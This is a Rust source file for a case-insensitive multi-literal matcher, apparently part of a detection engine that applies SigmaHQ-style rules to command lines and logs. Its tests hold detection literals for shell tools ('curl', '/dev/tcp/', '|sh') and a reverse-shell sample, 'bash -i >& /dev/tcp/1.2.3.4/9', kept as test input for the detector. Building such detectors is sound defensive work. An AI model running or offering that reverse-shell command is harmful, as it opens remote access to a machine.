//! Many literals, found in one pass over a text.
//!
//! In: literals, each with the numbers of what it stands for, once; texts, often. Out: the numbers of the literals that
//! stand in a text, in any case. Of each literal the rarest-looking run of four bytes (its gram) is kept; a pass looks
//! at each four bytes of the text, asks a small table of bits whether they are a gram at all, and compares the literal
//! only where they are. A pass depends little on the number of literals, and needs no automaton to be built: rules
//! load in no time. A literal of three bytes has as many grams as there are fourth bytes. Shorter ones are left out on
//! purpose: they stand nearly everywhere. Texts that are not ASCII must be folded by the caller.
//!
//! Bounded: a pass costs the length of the text times the literals that share a gram, which [`Literals::new`] keeps few.

use rustc_hash::FxHashMap;
use std::collections::BTreeMap;

/// Shortest literal.
pub(super) const LITERAL_BYTES: usize = 3;
/// Bits of the table, as a power of two: 8 KiB, a sixth of a usual first-level cache. Some 2,000 grams, as all of
/// SigmaHQ's rules have in one field, fill it to 3 %. One size for all, so that a pass has nothing to check.
const TABLE_BITS: u32 = 16;
const TABLE_WORDS: usize = 1 << (TABLE_BITS - 6);
/// 2^32 divided by the golden ratio (Knuth, The Art of Computer Programming 3, §6.4): spreads what is alike.
const SPREAD: u32 = 0x9E37_79B1;
/// The bit that tells upper from lower case in ASCII, in each byte.
const CASE: u32 = 0x2020_2020;
/// The first three bytes of a gram.
const SHORT: u32 = 0x00FF_FFFF;

/// Literals of one field.
#[derive(Debug, Default)]
pub(super) struct Literals {
    /// A bit for each hash of a gram; nothing where there are no literals.
    table: Option<Box<[u64; TABLE_WORDS]>>,
    /// By gram; those of three bytes have a fourth of 0.
    grams: FxHashMap<u32, Vec<Literal>>,
}

#[derive(Debug)]
struct Literal {
    /// Folded.
    text: Box<[u8]>,
    /// Where its gram stands in it.
    at: usize,
    stands_for: Box<[usize]>,
}

impl Literals {
    /// Makes folded literals ready; those that are too short are left out.
    pub(super) fn new(literals: BTreeMap<String, Vec<usize>>) -> Self {
        let mut ready = Self::default();
        for (text, stands_for) in literals {
            ready.add(text.into_bytes().into_boxed_slice(), stands_for.into_boxed_slice());
        }
        ready
    }

    fn add(&mut self, text: Box<[u8]>, stands_for: Box<[usize]>) {
        if text.len() == LITERAL_BYTES {
            let short = gram(&text) & SHORT;
            (0..=u8::MAX).for_each(|fourth| self.expect(short | u32::from(fourth) << 24 | CASE));
            return self.grams.entry(short).or_default().push(Literal { text, at: 0, stands_for });
        }
        let choices = text.windows(4).enumerate().map(|(at, bytes)| {
            let gram = gram(bytes);
            // Two that share a gram are worse than one that looks a little less rare.
            let sharing = i64::try_from(self.grams.get(&gram).map_or(0, Vec::len)).unwrap_or(i64::MAX / 8);
            let rank = bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing;
            (rank, std::cmp::Reverse(at), gram)
        });
        if let Some((_, std::cmp::Reverse(at), gram)) = choices.max() {
            self.expect(gram);
            self.grams.entry(gram).or_default().push(Literal { text, at, stands_for });
        }
    }

    /// Sets the bit of a gram.
    fn expect(&mut self, gram: u32) {
        let (word, bit) = place(gram);
        let table = self.table.get_or_insert_with(|| Box::new([0; TABLE_WORDS]));
        if let Some(word) = table.get_mut(word) {
            *word |= 1 << bit;
        }
    }

    /// Calls `found` with the numbers of each literal that stands in `text`, perhaps more than once.
    #[inline]
    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
        let Some(table) = self.table.as_deref() else { return };
        let mut look = |at: usize, gram: u32| {
            let (word, bit) = place(gram);
            if table.get(word).is_some_and(|word| word >> bit & 1 == 1) {
                self.compare(text, at, gram, found);
            }
        };
        for (at, bytes) in text.array_windows::<4>().enumerate() {
            look(at, u32::from_le_bytes(*bytes) | CASE);
        }
        // Three bytes at the end have no fourth.
        if let Some(at) = text.len().checked_sub(LITERAL_BYTES) {
            look(at, gram(text.get(at..).unwrap_or_default()));
        }
    }

    /// Compares the literals whose gram stands in `text` at `at`.
    #[cold]
    #[inline(never)]
    fn compare(&self, text: &[u8], at: usize, gram: u32, found: &mut impl FnMut(usize)) {
        for gram in [gram, gram & SHORT] {
            for literal in self.grams.get(&gram).into_iter().flatten() {
                let stands = at.checked_sub(literal.at).is_some_and(|start| {
                    text.get(start..start + literal.text.len())
                        .is_some_and(|part| part.eq_ignore_ascii_case(&literal.text))
                });
                if stands {
                    literal.stands_for.iter().for_each(|number| found(*number));
                }
            }
        }
    }
}

/// Where in the table a gram has its bit: word and bit.
#[inline]
fn place(gram: u32) -> (usize, u32) {
    let hash = gram.wrapping_mul(SPREAD) >> (u32::BITS - TABLE_BITS);
    ((hash >> 6) as usize, hash & 63)
}

/// Up to four bytes as a number, without case.
fn gram(bytes: &[u8]) -> u32 {
    bytes.iter().take(4).rev().fold(0, |gram, byte| gram << 8 | u32::from(*byte)) | CASE
}

/// How rarely a byte is seen in paths, command lines and log texts, roughly.
pub(super) fn rarity(byte: u8) -> i64 {
    match byte {
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 0,
        b'/' | b'\\' | b' ' | b'.' | b'l' | b'c' | b'd' | b'u' | b'm' | b'p' | b'-' => 1,
        b'a'..=b'z' | b'0'..=b'9' | b'=' | b'"' | b':' | b'_' => 2,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_literal_in_a_text_is_found_whatever_its_length_and_place() {
        let words = ["-i ", "curl", "/dev/tcp/", "aaaa", "nothere", "ñandú", "|sh", "aaa"];
        let literals = words.iter().enumerate().map(|(number, word)| ((*word).to_owned(), vec![number]));
        let set = Literals::new(literals.collect());
        for text in [
            "bash -i >& /dev/tcp/1.2.3.4/9",
            "CURL",
            "curl x|SH",
            "|sh x",
            "xaaaaax",
            "",
            "s",
            "|s",
            "aaa",
            "el ñandú",
            "nother",
        ] {
            let mut found = Vec::new();
            set.find(text.as_bytes(), &mut |number| found.push(number));
            found.sort_unstable();
            found.dedup();
            let lower = text.to_lowercase();
            let expect: Vec<usize> =
                (0..).zip(words).filter(|(_, word)| lower.contains(word)).map(|(number, _)| number).collect();
            assert_eq!(found, expect, "{text}");
        }
    }

    #[test]
    fn a_literal_that_stands_for_several_names_all() {
        let set = Literals::new([("http".to_owned(), vec![3, 5])].into());
        let mut found = Vec::new();
        set.find(b"see http://x", &mut |number| found.push(number));
        assert_eq!(found, [3, 5]);
    }
}
